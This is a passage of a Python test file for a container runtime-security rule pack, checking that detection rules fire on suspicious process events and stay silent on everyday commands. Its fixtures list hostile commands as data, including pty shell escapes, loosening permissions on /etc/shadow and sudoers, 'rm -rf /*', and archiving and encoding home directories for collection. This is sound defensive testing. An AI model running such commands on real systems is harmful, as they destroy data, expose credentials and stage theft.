        event = _entrypoint_run(command, parent, parent_cmd)
        assert rule not in matched_ids(pack, event), command
    loud = [
        ("/bin/sh", "/usr/bin/python3", "python3 -c import pty;pty.spawn('/bin/sh')"),
        ("/bin/sh -i", "/usr/bin/python3", "python3 /app/x.py"),
        ("/bin/sh -c /bin/sh", "/usr/bin/python3", "python3 /app/x.py"),
        ("/bin/sh -c 'exec bash -i'", "/usr/bin/perl", "perl x.pl"),
        ("/bin/sh -c '/bin/sh &'", "/usr/bin/awk", "awk BEGIN {system(\"/bin/sh &\")}"),
        ("/bin/sh -c id", "/usr/bin/python3", "/usr/bin/python3 /usr/local/bin/gunicorn app:app"),
        ("/bin/sh -c id", "/usr/bin/python3", "python3 manage.py runserver 0.0.0.0:8000"),
    ]
    for command, parent, parent_cmd in loud:
        event = _entrypoint_run(command, parent, parent_cmd)
        assert rule in matched_ids(pack, event), (command, parent_cmd)
    for session in ("interactive", "unknown", None):
        event = _entrypoint_run("/bin/sh -c id", "/usr/bin/python3", "python3 /app/x.py", session)
        assert rule in matched_ids(pack, event), session


def test_busybox_shell_counts_as_a_shell(pack: RuleSet) -> None:
    event = run("busybox sh -c id", parent="/usr/bin/python3", exe="/bin/busybox")
    assert "foothold.shell-in-container" in matched_ids(pack, event)
    assert "foothold.shell-in-container" not in matched_ids(
        pack, run("busybox ls /", parent="/usr/bin/python3", exe="/bin/busybox")
    )


def _runc_init_mount(name: str, args: dict[str, int | str]) -> EnrichedEvent:
    process = Process(pid=400, ppid=399, uid=0, exe="/usr/sbin/runc", comm="exe",
                      args=("runc", "init"), cgroup_id=7,
                      ancestors=(Ancestor(399, "/usr/sbin/runc"),))
    return EnrichedEvent(SyscallEvent(1, 400, 0, 7, "exe", name, 0, args), container(), process)


def test_runc_init_scratch_mounts_are_the_runtime_but_other_binds_are_not(
        pack: RuleSet) -> None:
    """runc init binds its own binary over a scratch file in runc's state dir, remounts it
    read-only and unmounts it. Its parent joins it to the container's cgroup meanwhile, so on a
    busy host any of the three can be attributed to the container (CI saw the bind)."""
    rule = "privilege_escalation.mount-syscall-in-container"
    scratch = "/var/run/docker/runtime-runc/moby/" + "a" * 64 + "/runc.Y91p7l"
    for name, args in (
            ("mount", {"path": scratch, "source": "/proc/self/exe", "flags": "MS_BIND",
                       "fstype": ""}),
            ("mount", {"path": scratch, "source": "", "flags": "MS_RDONLY|MS_REMOUNT|MS_BIND",
                       "fstype": ""}),
            ("umount2", {"path": scratch, "flags": "MNT_DETACH"})):
        assert rule not in matched_ids(pack, _runc_init_mount(name, args)), (name, args)
    # the same process binding anything else there, or the host's disk anywhere, still matches
    for args in ({"path": scratch, "source": "/dev/sda1", "flags": "MS_BIND", "fstype": ""},
                 {"path": "/mnt", "source": "/proc/self/exe", "flags": "MS_BIND", "fstype": ""}):
        assert rule in matched_ids(pack, _runc_init_mount("mount", args)), args


def test_benign_everyday_commands_raise_nothing(pack: RuleSet) -> None:
    for command in ("ls -la /app", "python3 app.py", "cat /etc/os-release", "ps aux"):
        assert matched_ids(pack, run(command, parent="/bin/sh")) == set(), command
    assert matched_ids(pack, connect("10.0.0.3", 5432)) == set()


DOCS = PACK.parent / "docs" / "rules.md"


def test_docs_list_every_shipped_rule(pack: RuleSet) -> None:
    text = DOCS.read_text()
    assert [r.id for r in pack.rules if f"`{r.id}`" not in text] == []


def test_docs_examples_load_with_the_pack(tmp_path: Path) -> None:
    text = DOCS.read_text()
    examples = text[text.index("## Examples") : text.index("## The shipped pack")]
    blocks = examples.split("```toml\n")[1:]
    assert len(blocks) >= 4
    for index, block in enumerate(blocks):
        (tmp_path / f"{index:02d}.toml").write_text(block.split("```")[0])
    rule_set = load_rule_set([PACK, tmp_path])
    assert rule_set.get("local.no-socat") is not None
    notes = rule_set.effective_action_notes(host_kills=True)
    assert notes["local.no-socat"] == "alert; kill: in-kernel"
    payments = run("/bin/sh -c x", parent="/usr/bin/python3")
    assert "local.payments-shell" not in matched_ids(rule_set, payments)  # no team label


# ------------------------------------------------------------------ issue 21, third pass: the
# everyday neighbours of the new rules (what entrypoints, backups and scripts do) stay quiet


def _hits(pack: RuleSet, rule_id: str, commands: list[str], **kw: object) -> list[str]:
    return [c for c in commands if rule_id in matched_ids(pack, run(c, **kw))]  # type: ignore[arg-type]


def test_temp_permission_changes_that_open_a_file_match_and_private_ones_do_not(
        pack: RuleSet) -> None:
    rule = "foothold.temp-file-permissions-opened"
    opened = ["chmod 755 /tmp/AtomicRedTeam/atomics/T1222.002", "chmod -R 0777 /var/tmp/x",
              "chmod +x /dev/shm/k", "chmod o+rx /tmp/d", "chmod u+x,o+w /tmp/f",
              "chown root:root /tmp/x/T1222.002.yaml", "chown -R root /tmp/x", "chown 0:0 /tmp/s"]
    private = ["chmod 700 /tmp/app", "chmod 600 /tmp/key.pem", "chmod 644 /tmp/r.txt",
               "chmod u+x /tmp/s.sh", "chmod g+w /tmp/shared", "chown app:app /tmp/cache",
               "chmod 1777 /tmp/.X11-unix", "chmod 1777 /tmp", "chmod 755 /srv/app",
               "chown -R app /data"]
    assert _hits(pack, rule, opened) == opened
    assert _hits(pack, rule, private) == []
    assert _hits(pack, rule, opened, ancestors=("/usr/bin/dpkg",)) == []  # maintainer scripts
    step = run("chmod +x /tmp/install.sh")
    build = dataclasses.replace(step, process=dataclasses.replace(step.process, session="build"))
    assert rule in matched_ids(pack, step) and rule not in matched_ids(pack, build)


def test_system_file_permission_changes(pack: RuleSet) -> None:
    rule = "privilege_escalation.system-file-permissions-opened"
    opened = ["chmod o+w /etc/shadow", "chmod 777 /etc/ssh/sshd_config", "chmod -R a+w /usr/bin",
              "chown app /etc/sudoers", "chown -R www-data:www-data /etc/cron.d",
              "chmod g+w /etc/passwd", "chmod 0666 /etc/ld.so.preload", "chown 1000 /root/.ssh",
              "setfacl -m u:app:rw /etc/shadow", "setfacl -R -m g:staff:rwx /usr/bin"]
    everyday = ["chmod 644 /etc/passwd", "chmod 0440 /etc/sudoers", "chown root:shadow /etc/shadow",
                "chmod 755 /usr/local/bin/app", "chown -R app:app /var/lib/app",
                "chmod 600 /root/.ssh/authorized_keys", "chown app /etc/app.conf",
                "setfacl -m u:app:r /etc/shadow", "getfacl /etc/shadow"]
    assert _hits(pack, rule, opened) == opened
    assert _hits(pack, rule, everyday) == []


def test_archives_of_homes_and_etc_but_not_of_application_data(pack: RuleSet) -> None:
    rule = "objectives.home-or-config-archived"
    collected = ["tar -cvzf /root/data.tar.gz /root/", "tar czf /backup/etc.tgz /etc",
                 "zip -r /tmp/h.zip /home/alice", "7z a /tmp/x.7z /home", "gzip -k /root/notes.txt",
                 "xz /root/dump.sql"]
    everyday = ["tar -xzf conf.tgz -C /etc", "tar czf /home/node/app/backup.tgz data",
                "gzip -d /root/x.gz", "gzip -k /tmp/reports/r.txt", "unzip x.zip -d /root",
                "tar -czf /var/backups/data.tar.gz -C /srv data", "gzip /var/log/app/app.log.1"]
    assert _hits(pack, rule, collected) == collected
    assert _hits(pack, rule, everyday) == []


def test_split_by_size_and_decoding_of_temp_files(pack: RuleSet) -> None:
    split = "objectives.file-split-into-chunks"
    assert _hits(pack, split, ["split --bytes=1M a.tgz", "split -b1M a.tgz x.", "split -C 10k f"]
                 ) == ["split --bytes=1M a.tgz", "split -b1M a.tgz x.", "split -C 10k f"]
    assert _hits(pack, split, ["split -n 4 big.log", "split -l 100 a.csv"]) == []
    decoded = "foothold.temp-file-decoded"
    assert _hits(pack, decoded, ["base64 -d /dev/shm/p", "base64 --decode /tmp/x",
                                 "openssl base64 -d -in /tmp/x -out /tmp/y",
                                 "uudecode /var/tmp/x.uu"]) == [
        "base64 -d /dev/shm/p", "base64 --decode /tmp/x",
        "openssl base64 -d -in /tmp/x -out /tmp/y", "uudecode /var/tmp/x.uu"]
    assert _hits(pack, decoded, ["base64 /tmp/x", "xxd /tmp/bin", "base64 -d /run/secrets/k",
                                 "openssl enc -d -aes-256-cbc -in /tmp/x"]) == []


def test_ping_delay_and_system_tree_deletion(pack: RuleSet) -> None:
    assert _hits(pack, "foothold.ping-as-delay", [
        "ping -c 250 127.0.0.1", "ping -qc 60 10.0.0.1", "ping -c 1 -w 30 db", "ping -c1 db",
        "ping -c 5 -i 0.2 db", "ping -c 10 127.0.0.1", "ping -i 0.5 -c 120 10.0.0.1"]) == [
        "ping -c 250 127.0.0.1", "ping -qc 60 10.0.0.1", "ping -i 0.5 -c 120 10.0.0.1"]
    deleted = ["rm -rf /etc", "rm -rf /*", "rm -r /home/", "rm -fr /usr"]
    kept = ["rm -f /etc/nginx/conf.d/default.conf", "rm -rf /tmp/build", "rm -rf /home/app/.cache",
            "rm /etc", "rm -rf ./etc"]
    assert _hits(pack, "objectives.system-tree-deleted", deleted) == deleted
    assert _hits(pack, "objectives.system-tree-deleted", kept) == []


def test_tor_and_proxy_chainers(pack: RuleSet) -> None:
    rule = "objectives.tor-or-proxy-chain"
    assert _hits(pack, rule, ["tor --SocksPort 9050", "proxychains4 curl http://x/",
                              "torsocks wget http://x/", "service tor start",
                              "sysrc tor_enable=YES"]) == [
        "tor --SocksPort 9050", "proxychains4 curl http://x/", "torsocks wget http://x/",
        "service tor start", "sysrc tor_enable=YES"]
    assert _hits(pack, rule, ["systemctl status torque", "service tomcat start"]) == []
    assert "objectives.tor-port-connect" not in matched_ids(pack, connect("10.0.0.3", 9050,
                                                                          image=HOST))


def test_archive_encoded_in_a_pipeline(pack: RuleSet) -> None:
    rule = "objectives.archive-encoded"
    assert _hits(pack, rule, ["sh -c 'zip -r - /home/a | xxd -p'",
                              "bash -c 'gzip -c /etc/hosts | openssl base64'",
                              "sh -c 'tar cz /srv | openssl enc -aes-256-cbc -a -k x'"]) == [
        "sh -c 'zip -r - /home/a | xxd -p'", "bash -c 'gzip -c /etc/hosts | openssl base64'",
        "sh -c 'tar cz /srv | openssl enc -aes-256-cbc -a -k x'"]
    assert _hits(pack, rule, ["sh -c 'echo aGk= | base64 -d'", "sh -c 'tar czf /b/x.tgz d'",
                              "sh -c 'gzip -dc x.gz | wc -l'"]) == []
